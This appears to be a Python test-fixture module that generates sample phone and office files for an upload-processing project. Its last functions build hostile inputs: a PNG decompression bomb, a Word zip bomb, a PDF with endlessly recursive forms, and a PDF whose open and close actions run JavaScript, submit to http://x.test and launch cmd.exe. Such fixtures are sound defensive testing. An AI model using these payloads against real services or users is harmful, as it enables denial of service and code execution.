"""Files as phones and offices make them, by real encoders. AMR-WB alone is written here: no encoder for it comes with ffmpeg."""

import io
import re
import subprocess
import wave
import zipfile
from functools import cache
from pathlib import Path
from tempfile import TemporaryDirectory

import docx
import imageio_ffmpeg
import openpyxl
import pillow_heif
import pysilk
from PIL import Image, ImageDraw

from borrower_help.core import pdf

pillow_heif.register_heif_opener()
SIZE = (640, 480)
TAKEN = "2026:03:04 20:15:30"
MARK = "记录七号"


def drawing(size: tuple[int, int] = SIZE) -> Image.Image:
    """Return a picture with something to see: red left above, blue right below."""
    picture = Image.new("RGB", size, "white")
    draw = ImageDraw.Draw(picture)
    width, height = size
    draw.rectangle((0, 0, width // 4, height // 4), fill=(220, 20, 20))
    draw.rectangle((width * 3 // 4, height * 3 // 4, width, height), fill=(20, 20, 220))
    for step in range(0, width, 40):
        draw.line((step, 0, width - step, height), fill=(step % 255, 120, 60), width=3)
    return picture


def exif(orientation: int = 1) -> Image.Exif:
    made = Image.Exif()
    made[0x0112] = orientation
    made[0x010F] = "Maker of cameras"
    details = made.get_ifd(0x8769)
    details[0x9003] = TAKEN
    details[0x9011] = "+08:00"
    place = made.get_ifd(0x8825)
    place[1], place[2] = "N", (31.0, 13.0, 49.0)
    return made


def picture(form: str, size: tuple[int, int] = SIZE, **options: object) -> bytes:
    out = io.BytesIO()
    drawing(size).save(out, form, **options)
    return out.getvalue()


def heic_of_several() -> bytes:
    """Return a HEIC of three pictures, the second the main one, as newer phones write."""
    holder = pillow_heif.from_pillow(drawing((320, 240)))
    holder.add_from_pillow(drawing())
    holder.add_from_pillow(drawing((160, 120)))
    out = io.BytesIO()
    holder.save(out, primary_index=1)
    return out.getvalue()


def gif_moving() -> bytes:
    out = io.BytesIO()
    frames = [drawing().rotate(turn).quantize(64) for turn in (0, 10, 20)]
    frames[0].save(out, "GIF", save_all=True, append_images=frames[1:])
    return out.getvalue()


_SOUND = ["-f", "lavfi", "-i", "sine=frequency=440:duration=2"]
_SIGHT = ["-f", "lavfi", "-i", "testsrc=size=320x240:rate=15:duration=2"]
_MADE_AT = ["-metadata", "creation_time=2026-03-04T12:15:30Z"]


@cache
def recording(ending: str, *options: str) -> bytes:
    """Return what ffmpeg writes with these options, two seconds long."""
    with TemporaryDirectory() as folder:
        target = Path(folder) / f"made.{ending}"
        command = [imageio_ffmpeg.get_ffmpeg_exe(), "-hide_banner", "-loglevel", "error", *options, str(target)]
        subprocess.run(command, check=True, timeout=60)
        return target.read_bytes()


def sound(ending: str, *options: str) -> bytes:
    return recording(ending, *_SOUND, *options)


def video(ending: str, *options: str) -> bytes:
    return recording(ending, *_SIGHT, *_SOUND, *_MADE_AT, "-pix_fmt", "yuv420p", *options)


def wav() -> bytes:
    out = io.BytesIO()
    with wave.open(out, "wb") as made:
        made.setparams((1, 2, 16_000, 0, "NONE", ""))
        made.writeframes(sine(16_000))
    return out.getvalue()


def sine(rate: int, seconds: int = 2) -> bytes:
    import math

    return b"".join(int(9000 * math.sin(n * 0.15)).to_bytes(2, "little", signed=True) for n in range(rate * seconds))


def amr_wide(frames: int = 100) -> bytes:
    """Return wide-band speech of silence descriptors and speech frames of the lowest rate, as RFC 4867 lays them out."""
    speech = bytes([0 << 3 | 4]) + bytes(17)
    silence = bytes([9 << 3 | 4]) + bytes(5)
    return b"#!AMR-WB\n" + b"".join(silence if n % 8 == 7 else speech for n in range(frames))


def silk() -> bytes:
    out = io.BytesIO()
    pysilk.encode(io.BytesIO(sine(24_000)), out, 24_000, 24_000)
    return out.getvalue()


def word() -> bytes:
    document = docx.Document()
    document.add_paragraph(f"{MARK}：晚上九点来电")
    table = document.add_table(1, 2)
    table.cell(0, 0).text, table.cell(0, 1).text = "号码", "次数"
    out = io.BytesIO()
    document.save(out)
    return out.getvalue()


def table() -> bytes:
    book = openpyxl.Workbook()
    book.active.append([MARK, 7, "晚上"])
    book.create_sheet("二").append(["第二页"])
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


@cache
def pages(count: int = 3) -> bytes:
    body = "".join(f'<h1 style="break-before: page">{MARK} {n}</h1><p>第 {n} 页</p>' for n in range(count))
    style = "body { font-family: 'Shoujie Song', 'Noto Serif SC' } h1 { font-family: 'Shoujie Hei', 'Noto Sans SC' }"
    return pdf.render(body, css=style, language="zh-Hans", title="通话清单")


@cache
def pages_with_a_bad_one(count: int = 3, bad: tuple[int, ...] = (2,)) -> bytes:
    """Return a PDF some of whose pages were overwritten with zeros, as a broken card or connection leaves them."""
    with TemporaryDirectory() as folder:
        whole, plain = Path(folder) / "whole.pdf", Path(folder) / "plain.pdf"
        whole.write_bytes(pages(count))
        subprocess.run(["qpdf", "--object-streams=disable", "--qdf", str(whole), str(plain)], check=True)
        data = bytearray(plain.read_bytes())
    for number in sorted(bad, reverse=True):
        at = [found.start() for found in re.finditer(rb"/Type /Page\n", data)][number - 1]
        start = data.rindex(b" 0 obj", 0, at)
        data[start : at + 11] = bytes(at + 11 - start)
    return bytes(data)


def png_bomb(side: int = 50_000) -> bytes:
    """Return a picture that says it is 50,000 by 50,000 and holds about as many zeros, packed into some kilobytes."""
    import zlib

    def chunk(name: bytes, data: bytes) -> bytes:
        return len(data).to_bytes(4, "big") + name + data + zlib.crc32(name + data).to_bytes(4, "big")

    header = side.to_bytes(4, "big") * 2 + bytes([1, 0, 0, 0, 0])  # one bit a pixel
    packer = zlib.compressobj(9)
    line = bytes(1 + side // 8)
    data = b"".join(packer.compress(line) for _ in range(side)) + packer.flush()
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", data) + chunk(b"IEND", b"")


def word_bomb() -> bytes:
    """Return a Word file whose text unpacks to 400 MB."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        with archive.open("word/document.xml", "w", force_zip64=True) as member:
            member.write(b"<w:document><w:body>")
            for _ in range(400):
                member.write(b" " * 1_000_000)
    return out.getvalue()


@cache
def locked_pages() -> bytes:
    """Return a PDF that opens with a password only."""
    with TemporaryDirectory() as folder:
        plain, locked = Path(folder) / "plain.pdf", Path(folder) / "locked.pdf"
        plain.write_bytes(pages())
        command = ["qpdf", "--encrypt", "one", "two", "256", "--"]
        subprocess.run([*command, str(plain), str(locked)], check=True)
        return locked.read_bytes()


def slow_pages(slow: int = 2, count: int = 3) -> bytes:
    """Return a PDF one page of which draws a form that draws a form ten times, nine deep: it never ends."""
    kids = b" ".join(b"%d 0 R" % (10 + number) for number in range(count))
    objects = {1: b"<</Type/Catalog/Pages 2 0 R>>", 2: b"<</Type/Pages/Kids[%s]/Count %d>>" % (kids, count)}
    for number in range(count):
        page = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 300 400]/Resources<</XObject<</X 30 0 R>>>>/Contents %d 0 R>>"
        objects[10 + number] = page % (20 + number)
        objects[20 + number] = _stream(b"", b"/X Do" if number + 1 == slow else b"1 0 0 rg 9 9 99 99 re f")
    for depth in range(9):
        inner = b"/Type/XObject/Subtype/Form/BBox[0 0 300 400]/Resources<</XObject<</X %d 0 R>>>>" % (31 + depth)
        objects[30 + depth] = _stream(inner, b"0 0 5 5 re f" if depth == 8 else b"/X Do " * 10)
    body = b"".join(b"%d 0 obj %s endobj\n" % pair for pair in objects.items())
    return b"%PDF-1.4\n" + body + b"trailer <</Root 1 0 R/Size 99>>\n%%EOF\n"


def _stream(told: bytes, drawn: bytes) -> bytes:
    return b"<<%s/Length %d>>stream\n%s\nendstream" % (told, len(drawn), drawn)


def scripted_pages() -> bytes:
    """Return a PDF of one page that wants to run a script, open a site and start a program."""
    return b"""%PDF-1.7
1 0 obj <</Type/Catalog/Pages 2 0 R/OpenAction <</S/JavaScript/JS(app.alert\\(1\\); this.submitForm\\("http://x.test"\\))>>
/AA <</WC <</S/Launch/F(cmd.exe)>>>> >> endobj
2 0 obj <</Type/Pages/Kids[3 0 R]/Count 1>> endobj
3 0 obj <</Type/Page/Parent 2 0 R/MediaBox[0 0 300 400]/AA <</O <</S/URI/URI(http://x.test)>>>> >> endobj
trailer <</Root 1 0 R/Size 4>>
%%EOF
"""
